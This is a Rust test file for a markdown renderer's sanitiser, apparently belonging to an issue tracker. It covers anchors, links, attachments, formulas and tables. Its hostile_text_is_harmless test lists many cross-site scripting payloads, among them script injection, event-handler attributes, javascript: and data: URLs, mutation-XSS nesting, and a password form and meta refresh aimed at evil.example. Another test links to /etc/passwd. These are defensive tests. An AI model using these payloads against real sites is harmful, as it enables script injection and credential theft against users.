use std::sync::LazyLock;

use regex::Regex;

use super::*;

fn words() -> MarkdownWords {
    let word = str::to_owned;
    MarkdownWords {
        note: word("Note"),
        tip: word("Tip"),
        important: word("Important"),
        warning: word("Warning"),
        caution: word("Caution"),
        done: word("done"),
        to_do: word("to do"),
        table: word("Table"),
        contents: word("Contents"),
    }
}

/// A store with one ticket and two attachments.
struct Here;

impl Resolve for Here {
    fn name(&self, name: &str, _: bool) -> Option<LinkTarget> {
        (name == "export-times-out-k7f3qa" || name == "FLUID-115").then(|| LinkTarget::Page {
            href: "../export-times-out-k7f3qa/".to_owned(),
            title: "Export \"times\" out".to_owned(),
        })
    }

    fn relative(&self, link: &RelativeLink<'_>) -> Option<LinkTarget> {
        match link.path.strip_prefix("x-k7f3qa/").unwrap_or(link.path) {
            name @ ("trace.log" | "screen shot.png") => Some(LinkTarget::Attachment {
                href: name.replace(' ', "%20"),
                name: name.to_owned(),
                image: name.ends_with("png"),
                size: None,
            }),
            _ => None,
        }
    }
}

fn html(markdown: &str) -> String {
    full(markdown).html
}

fn full(markdown: &str) -> Rendered {
    render(
        markdown,
        &MarkdownStyle {
            key: "",
            elsewhere: None,
            title: None,
            has_contents: false,
            heading_shift: 1,
            has_colors: true,
            words: &words(),
            resolve: &Here,
        },
    )
}

#[track_caller]
fn shows(markdown: &str, expected: &str) {
    assert_eq!(html(markdown).trim(), expected);
}

/// Checks every element and attribute outside of text, roughly as a browser would parse them.
#[track_caller]
fn is_harmless(markdown: &str) {
    static TAG: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r#"<\s*([a-zA-Z!?/][^>\s/]*)((?:[^<>"']|"[^"]*"|'[^']*')*)>"#).unwrap());
    static QUOTED: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#""[^"]*""#).unwrap());
    static ACTIVE: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"\bon\w+\s*=|\bstyle\s*=|srcdoc|formaction").unwrap());
    static ADDRESS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"(?:href|src)="([^"]*)""#).unwrap());
    static ID: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"\s(?:id|name)="([^"]*)""#).unwrap());
    let html = html(markdown);
    for found in TAG.captures_iter(&html) {
        let name = found[1].trim_start_matches('/').to_ascii_lowercase();
        assert!(raw::allowed(&name) || formulas::is_element(&name), "<{name}> in {html}");
        let attributes = found[2].to_ascii_lowercase();
        assert!(!ACTIVE.is_match(&QUOTED.replace_all(&attributes, "\"\"")), "{html}");
        for value in ADDRESS.captures_iter(&attributes) {
            let outside = ["http://", "https://", "mailto:", "#user-content-"];
            let inside = ["trace.log", "screen%20shot.png", "../export-times-out-k7f3qa/"];
            let value = &value[1];
            assert!(
                outside.iter().any(|start| value.starts_with(start)) || inside.contains(&value),
                "{value} in {html}"
            );
        }
        for id in ID.captures_iter(&attributes) {
            assert!(id[1].starts_with("user-content-"), "{html}");
        }
        if name == "img" {
            assert!(
                attributes.contains("src=\"screen%20shot.png\"") || !attributes.contains("src="),
                "{html}"
            );
        }
    }
}

#[test]
fn headings_are_below_the_headings_of_the_page_and_can_be_linked() {
    shows("## Steps to reproduce", "<h3 id=\"user-content-steps-to-reproduce\">Steps to reproduce</h3>");
    shows("## 问题", "<h3 id=\"user-content-问题\">问题</h3>");
    shows("# A\n# A", "<h2 id=\"user-content-a\">A</h2>\n<h2 id=\"user-content-a-1\">A</h2>");
}

#[test]
fn ids_in_a_text_cannot_replace_the_ids_of_the_page() {
    assert!(!html("<p id=\"answer\">x</p>\n\n## answer").contains("id=\"answer\""));
}

#[test]
fn headings_have_the_anchors_of_the_forge() {
    shows(
        "## Alpha & Beta -> `GA`",
        "<h3 id=\"user-content-alpha--beta---ga\">Alpha &amp; Beta -&gt; <code>GA</code></h3>",
    );
    let text = "# *Dup*\n# Dup\n# Dup 1\n# 🎉\n# `code_heading(x)`\n# [Über](https://a.example/)\n";
    let html = html(text);
    for id in ["dup", "dup-1", "dup-1-1", "code_headingx", "über"] {
        assert!(html.contains(&format!("id=\"user-content-{id}\"")), "{id}: {html}");
    }
    assert!(html.contains("<h2>🎉</h2>"));
}

#[test]
fn images_footnotes_and_html_in_headings_have_the_anchors_of_the_forge() {
    let text = "# ![logo](x.png) Pic\n# Note[^b] here\n# :rocket: Go\n# ❤\u{fe0f} Love\n# User content x\n\n<h2 align=\"center\" id=\"own\">The <code>Html</code> one</h2>\n\n# The html one\n\n[1](#user-content-x) [2](#the-html-one)\n\n[^b]: x\n";
    let html = html(text);
    let anchors = [
        "-pic",
        "note1-here",
        "rocket-go",
        "\u{fe0f}-love",
        "user-content-x",
        "own",
        "the-html-one",
        "the-html-one-1",
    ];
    for id in anchors {
        assert_eq!(html.matches(&format!("id=\"user-content-{id}\"")).count(), 1, "{id}: {html}");
    }
    assert!(html.contains("href=\"#user-content-user-content-x\""), "{html}");
    assert!(html.contains("href=\"#user-content-the-html-one\""), "{html}");
}

#[test]
fn an_anchor_without_a_link_ends_at_its_end_tag() {
    shows(
        "<a name=\"x\"></a><a name=\"x\"></a>a\n\nb",
        "<p><a id=\"user-content-x\" rel=\"nofollow ugc noopener\"></a><a rel=\"nofollow ugc noopener\"></a>a</p>\n<p>b</p>",
    );
}

#[test]
fn an_anchor_that_the_author_wrote_is_kept_once() {
    shows(
        "<a name=\"Old-Name\"></a>\n<span id='x'>x</span>\n\n[up](#old-name)",
        "<p><a id=\"user-content-old-name\" rel=\"nofollow ugc noopener\"></a>\n<span id=\"user-content-x\">x</span></p>\n\
         <p><a href=\"#user-content-old-name\" rel=\"nofollow ugc noopener\">up</a></p>",
    );
    let html = html(
        "<a id=fix></a><b id=\"fix\">x</b> <i id=a>y</i><i id=a>z</i>\n# Fix\n<div id=\"user-content-fix\">z</div>",
    );
    assert_eq!(html.matches("user-content-fix\"").count(), 1, "{html}");
    assert_eq!(html.matches("user-content-a\"").count(), 1, "{html}");
    assert!(html.contains("<h2 id=\"user-content-fix\">Fix</h2>"), "{html}");
}

#[test]
fn no_text_after_an_unclosed_comment_or_tag_is_lost() {
    for start in
        ["<div>\n<!-- a", "<!-- a\n", "<div>\n<b title=\"a", "a <title> b", "<svg><b\n", "<b>\n<script"]
    {
        let html = html(&format!("{start}\n\n*rest*\n\n<i>x</i> \"y\""));
        assert!(html.contains("<em>rest</em>") && html.contains("<i>x</i>"), "{start}: {html}");
    }
    assert!(html("<textarea>\n\nrest").contains("rest"));
    assert!(html("<!-- a\n\nrest").contains("&lt;!-- a"));
}

#[test]
fn the_name_of_a_ticket_becomes_a_link() {
    shows(
        "See #export-times-out-k7f3qa, or export-times-out-k7f3qa.",
        "<p>See <a href=\"../export-times-out-k7f3qa/\" title=\"Export &quot;times&quot; out\">#export-times-out-k7f3qa</a>, \
         or <a href=\"../export-times-out-k7f3qa/\" title=\"Export &quot;times&quot; out\">export-times-out-k7f3qa</a>.</p>",
    );
    assert!(html("见FLUID-115。").contains("<a href"), "no space before a name is needed after Chinese");
}

#[test]
fn a_name_inside_code_a_path_or_a_longer_word_is_not_a_ticket() {
    for text in [
        "`export-times-out-k7f3qa`",
        "    export-times-out-k7f3qa",
        "a/export-times-out-k7f3qa/b",
        "export-times-out-k7f3qa.md",
        "my-export-times-out-k7f3qa",
        "export-times-out-k7f3qa_2",
    ] {
        assert!(!html(text).contains("<a "), "{text}: {}", html(text));
    }
}

#[test]
fn a_bare_address_becomes_a_link_without_the_full_stop_after_it() {
    shows(
        "See https://a.example/x_(y)?a=1&b=2.",
        "<p>See <a href=\"https://a.example/x_(y)?a=1&amp;b=2\" rel=\"nofollow ugc noopener\">\
         https://a.example/x_(y)?a=1&amp;b=2</a>.</p>",
    );
    assert!(html("(https://a.example/)").contains("href=\"https://a.example/\""));
    assert!(html("见https://a.example/c。谢谢").contains("href=\"https://a.example/c\""));
    assert!(!html("[https://a.example](https://b.example)").contains("href=\"https://a.example"));
    for (text, address) in [
        ("(see https://a.example/x(y)).", "https://a.example/x(y)"),
        ("[see https://a.example/[1]]!", "https://a.example/[1]"),
        ("https://a.example/)x(y)", "https://a.example/)x(y"),
        ("https://a.example/]x(y)", "https://a.example/]x(y)"),
        ("https://a.example/?!*_~'])", "https://a.example/"),
    ] {
        let html = html(text);
        assert!(html.contains(&format!("href=\"{address}\"")), "{text}: {html}");
    }
}

#[test]
fn the_time_to_render_a_text_grows_linearly() {
    crate::text::growth::assert_linear(|text| {
        full(text);
        excerpt(text, 200);
    });
}

#[test]
fn a_link_to_an_attachment_leads_to_the_folder_of_the_ticket_and_is_reported() {
    let rendered = full("[log](x-k7f3qa/trace.log), [again](trace.log), ![shot](screen%20shot.png)");
    assert_eq!(rendered.attachments, ["screen%20shot.png", "trace.log"]);
    assert_eq!(
        rendered.html.trim(),
        "<p><a href=\"trace.log\" download=\"trace.log\">log</a>, <a href=\"trace.log\" download=\"trace.log\">again</a>, \
         <a href=\"screen%20shot.png\"><img src=\"screen%20shot.png\" alt=\"shot\" loading=\"lazy\"></a></p>"
    );
}

#[test]
fn a_link_to_a_missing_page_becomes_text() {
    shows("[runbook](../../runbook.md) [top](/etc/passwd) [x](?q=1)", "<p>runbook top x</p>");
}

#[test]
fn an_external_picture_becomes_a_link() {
    shows(
        "![diagram](https://tracker.example/pixel.gif)",
        "<p><a href=\"https://tracker.example/pixel.gif\" rel=\"nofollow ugc noopener\">diagram</a></p>",
    );
    let raw = html("<img width=300 src=\"https://tracker.example/pixel.gif\" alt='shot'>");
    assert!(!raw.contains("<img") && raw.contains("href=\"https://tracker.example/pixel.gif\""), "{raw}");
}

#[test]
fn template_hints_are_hidden_and_placeholders_are_shown() {
    shows("<!-- What happened? -->\nIt broke.", "<p>It broke.</p>");
    shows("a Vec<String> of <your-name>", "<p>a Vec&lt;String&gt; of &lt;your-name&gt;</p>");
    assert!(html("<config>\n<retries>3</retries>\n</config>").contains("&lt;retries&gt;3"));
}

#[test]
fn tables_tasks_alerts_and_footnotes_need_no_inline_styles() {
    let html = html(
        "|a|b|\n|:-:|--:|\n|1|2|\n\n- [x] one\n- [ ] two\n\n> [!WARNING]\n> hot\n\nnote[^1] ~~gone~~\n\n[^1]: foot",
    );
    assert!(
        html.contains("<th scope=\"col\" class=\"center\">a</th>")
            && html.contains("<td class=\"right\">2</td>")
    );
    assert!(html.contains("aria-label=\"done\">☑</span>") && html.contains("aria-label=\"to do\">☐</span>"));
    assert!(html.contains("<blockquote class=\"alert alert-warning\"><p class=\"alert-title\">Warning</p>"));
    assert!(html.contains("href=\"#user-content-note~1\"") && html.contains("id=\"user-content-note~1\""));
    assert!(html.contains("<del>gone</del>"));
    assert!(!html.contains("style=") && !html.contains("<input"), "{html}");
}

#[test]
fn code_is_shown_unchanged() {
    shows(
        "```log\necho '<b>' # https://a.example\n```",
        "<pre tabindex=\"0\" data-language=\"log\"><code>echo '&lt;b&gt;' # https://a.example\n</code></pre>",
    );
    shows(
        "```sh\n# '<b>' https://a.example\n```",
        "<pre tabindex=\"0\" data-language=\"sh\"><code><span class=\"hl-c\"># &#39;&lt;b&gt;&#39; https://a.example\n</span></code></pre>",
    );
    shows("```\"><script>\nx\n```", "<pre tabindex=\"0\" data-language=\"script\"><code>x\n</code></pre>");
}

#[test]
fn raw_html_keeps_what_is_useful() {
    let html = html(
        "<details open><summary>Log</summary>\n\n```\nx\n```\n\n[log](trace.log)\n\n</details>\n\nPress <kbd>q</kbd>",
    );
    assert!(html.contains("<details open=\"\"><summary>Log</summary>"), "{html}");
    assert!(html.contains("<kbd>q</kbd>") && html.contains("<pre tabindex=\"0\"><code>x"), "{html}");
    assert!(html.contains("href=\"trace.log\""), "{html}");
}

#[test]
fn hostile_text_is_harmless() {
    for text in [
        "<script>alert(1)</script>",
        "x <script src=//evil.example></script> y",
        "<img src=x onerror=alert(1)>",
        "<img src=\"screen%20shot.png\" onerror=alert(1)>",
        "<img/src=\"screen%20shot.png\"/onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#1;javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "<javascript:alert(1)>",
        "<data:text/html,hi>",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/x)",
        "[x](\\\\evil.example\\x)",
        "[x](https:/evil.example)",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href=\"#answer\" onclick=alert(1)>x</a>",
        "<a href=/admin>x</a>",
        "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\" target=_top>x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<style>body{display:none}</style>",
        "<style>\n\n<img src=x onerror=alert(1)>\n\n</style>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<details ontoggle=alert(1) open>x</details>",
        "<div class=\"banner\" id=\"answer\">x</div>",
        "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$ \\(</math><script>alert(1)</script>=\\)",
        "$$\\begin{array}{c\" onclick=\"alert(1)} a \\end{array}$$ $\\color{red\" onclick=alert(1)} x$ $<img src=x onerror=alert(1)>$",
        "```math\n\\text{</annotation><img src=x onerror=alert(1)>}\n```",
        "!!! note \"<script>alert(1)</script>\"\n    <img src=x onerror=alert(1)>",
        ":::\"><script>alert(1)</script>\nx\n:::",
        "[TOC]\n# <img src=x onerror=alert(1)>\n# \"><script>alert(1)</script>",
        "www.\"onmouseover=\"alert(1)",
        "<a name=location></a><a id=\"x\" onclick=alert(1)>y</a><img name=cookie id=body src=x>",
        "<p title=\" id='answer' onclick=alert(1) \" id=answer>x</p>",
        "<p/id=answer/onclick=alert(1)>x</p>",
        "<a name='x\" onmouseover=\"alert(1)'>y</a>",
        "[x](#a\"onmouseover=alert(1))",
        "</main></body></html><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- > --><script>alert(1)</script>",
        "`<script>`<script>alert(1)</script>",
        "<a title='\"><script>alert(1)</script>' href=https://ok.example>x</a>",
        "[a](https://ok.example \"\\\"><script>alert(1)</script>\")",
        "![\"><script>alert(1)</script>](screen%20shot.png)",
        "# <script>alert(1)</script>",
        "# x\" onmouseover=\"alert(1)",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^\"><script>alert(1)</script>]: x",
        "https://ok.example/\"onmouseover=\"alert(1)",
        "https://ok.example/'><script>alert(1)</script>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
        "<a href=\"screen%20shot.png\"><img src=\"https://evil.example/x.png\"></a>",
        "<x-y onclick=alert(1)>z</x-y>",
        "<?xml version=\"1.0\"?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>",
    ] {
        is_harmless(text);
        // The same text inside a list, a quote and a table cell, and next to HTML that the sanitiser has to clean.
        is_harmless(&format!("- {text}\n\n> {text}"));
        is_harmless(&format!("<div>\n\n{text}\n\n</div>"));
        is_harmless(&format!("<b>{text}</b>"));
    }
}

#[test]
fn a_flood_of_raw_tags_is_shown_as_text() {
    let flood = "<b><i>".repeat(5_000);
    let html = html(&flood);
    assert!(html.contains("&lt;b&gt;") && !html.contains("<b>"));
}

#[test]
fn two_texts_on_a_page_have_different_ids() {
    let words = words();
    let style = |key| MarkdownStyle {
        key,
        elsewhere: None,
        title: None,
        has_contents: false,
        heading_shift: 0,
        has_colors: true,
        words: &words,
        resolve: &NoLinks,
    };
    assert_ne!(render("# A", &style("r1~")).html, render("# A", &style("r2~")).html);
}

#[test]
fn an_excerpt_is_prose_cut_between_words() {
    let text =
        "## Problem\n<!-- hint -->\nThe *export* of `rows`\ntimes out.\n\n```\ncode\n```\n\n- one\n- two";
    assert_eq!(excerpt(text, 200), "The export of rows times out. one two");
    assert_eq!(excerpt(text, 18), "The export of…");
    assert_eq!(excerpt("发票导出超时发票导出超时", 6), "发票导出超时…");
    assert_eq!(excerpt("```\nonly code\n```", 80), "");
}

#[test]
fn a_formula_is_shown_without_scripts_and_a_price_is_text() {
    let text = "So $x_1 = a*b*c$ and $y*z$, \\(c_1 = d*e*f\\).\n\n$$\\frac{a}{b}$$\n\n```math\n\\sqrt{2}\n```\n\nIt costs $5 to $10, *or* more.";
    for text in [text.to_owned(), format!("{text}\n<kbd>q</kbd>")] {
        let html = html(&text);
        assert_eq!(html.matches("<math ").count(), 5, "{html}");
        for part in [
            "alttext=\"x_1 = a*b*c\"",
            "<msub><mi>c</mi>",
            "<math display=\"block\" alttext=\"\\frac{a}{b}\"",
            "<msqrt>",
            "It costs $5 to $10, <em>or</em> more.",
        ] {
            assert!(html.contains(part), "{part}: {html}");
        }
        assert!(!html.contains("formula-"), "{html}");
    }
    shows("$\\unknown{a*b*c}$", "<p><code class=\"formula\">$\\unknown{a*b*c}$</code></p>");
    assert!(html("```math\n\\unknown\n```").contains("data-language=\"math\"><code>\\unknown\n</code>"));
    assert!(html("# A $x$").contains("id=\"user-content-a-x\""));
}

#[test]
fn a_diagram_is_code_with_the_name_of_its_language() {
    shows(
        "```mermaid\ngraph TD\n```",
        "<p class=\"caption\">Mermaid</p>\n<pre tabindex=\"0\" data-language=\"mermaid\"><code>graph TD\n</code></pre>",
    );
}

#[test]
fn notes_of_other_programs_are_alerts() {
    for text in [
        "!!! warning\n    *Hot*\n",
        ":::warning\n*Hot*\n:::\n",
        "{{< hint warning >}}\n*Hot*\n{{< /hint >}}\n",
    ] {
        let html = html(text);
        assert!(
            html.contains("alert-warning\"><p class=\"alert-title\">Warning</p>\n<p><em>Hot</em></p>"),
            "{html}"
        );
    }
}

#[test]
fn an_address_that_begins_with_www_is_a_link() {
    shows(
        "See www.example.com/a.",
        "<p>See <a href=\"http://www.example.com/a\" rel=\"nofollow ugc noopener\">www.example.com/a</a>.</p>",
    );
    assert!(!html("www. and awww.example.com").contains("<a "));
}

fn main_text(markdown: &str) -> String {
    let words = words();
    let title = Some("The  title");
    let style = MarkdownStyle {
        key: "",
        elsewhere: None,
        title,
        has_contents: true,
        heading_shift: 0,
        has_colors: true,
        words: &words,
        resolve: &NoLinks,
    };
    let rendered = render(markdown, &style);
    rendered.contents + &rendered.html
}

#[test]
fn a_heading_that_repeats_the_title_is_left_out() {
    let html = main_text("<!-- hint -->\n# The *Title*\n\n# The title\n\n[up](#the-title)");
    assert_eq!(
        html.trim(),
        "<span id=\"user-content-the-title\"></span>\n<h2 id=\"user-content-the-title-1\">The title</h2>\n\
         <p><a href=\"#user-content-the-title\">up</a></p>"
    );
    for text in ["x\n# The title", "## The title", "# Another title"] {
        assert!(main_text(text).contains("title</h2>"), "{text}");
    }
}

#[test]
fn a_long_text_has_a_contents_list() {
    let section = |name: &str| format!("## {name}\n{}\n### Part <of> {name}\nx\n", "word ".repeat(250));
    let text = format!("# The title\n{}", ["One", "Two", "Three", "Four"].map(section).concat());
    let html = main_text(&text);
    let list = "<div class=\"contents\" role=\"navigation\" aria-label=\"Contents\"><p>Contents</p>\n<ul>\n\
                <li><a href=\"#user-content-one\">One</a>\n<ul>\n<li><a href=\"#user-content-part--one\">";
    assert!(html.starts_with(list), "{html}");
    assert_eq!(html.matches("<ul>").count(), html.matches("</ul>").count());
    assert_eq!(html.matches("<li>").count(), html.matches("</li>").count());
    assert!(!main_text("## One\n## Two\n## Three\n## Four\n").contains("contents"));
    for mark in ["[TOC]", "[[_TOC_]]", "[toc]"] {
        let html = main_text(&format!("Before.\n{mark}\n## One\nx\n"));
        assert!(html.starts_with("<p>Before.</p>\n<div class=\"contents\""), "{html}");
        assert!(!html.to_lowercase().contains("toc"), "{html}");
    }
}
